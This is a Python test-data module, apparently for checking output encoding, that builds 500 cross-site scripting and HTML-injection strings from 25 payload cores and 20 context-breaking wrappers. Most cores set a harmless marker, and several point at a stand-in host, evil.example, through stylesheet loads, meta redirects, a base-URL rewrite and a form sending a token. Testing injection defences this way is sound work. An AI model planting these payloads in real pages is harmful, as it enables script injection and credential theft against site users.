"""payloads.py - texts that would run as a script, load something or change a page if they got into
markup, an attribute, a style or an address unencoded"""

CORES = [
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<body onload=window.hit=1>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<details open ontoggle=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<input autofocus onfocus=window.hit=1>",
    "<a href=javascript:window.hit=1 id=hit>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=token>",
    "<object data=javascript:window.hit=1></object>",
    "<embed src=javascript:window.hit=1>",
    "<template><script>window.hit=1</script></template>",
    "javascript:window.hit=1",
    "data:text/html,<script>window.hit=1</script>",
    "{{constructor.constructor('window.hit=1')()}}",
    "${window.hit=1}",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "%3Cscript%3Ewindow.hit=1%3C/script%3E",
    "\\x3cscript\\x3ewindow.hit=1\\x3c/script\\x3e",
]

AROUND = [
    ("", ""),
    ('">', ""),
    ("'>", ""),
    ('" ', ' x="'),
    ("' ", " x='"),
    ("</textarea>", ""),
    ("</title>", ""),
    ("</pre>", ""),
    ("</option></select>", ""),
    ("</style>", ""),
    ("-->", "<!--"),
    ("]]>", ""),
    ("\u202e", "\u202c"),
    ("\ufeff", ""),
    ("`", "`"),
    ("\u2028", ""),
    ("</td></tr></table>", ""),
    ("<!--", ""),
    ("\\\"", ""),
    ("\u00a0", ""),
]


def payloads():
    """500 of them."""
    return [before + core + after for core in CORES for before, after in AROUND]
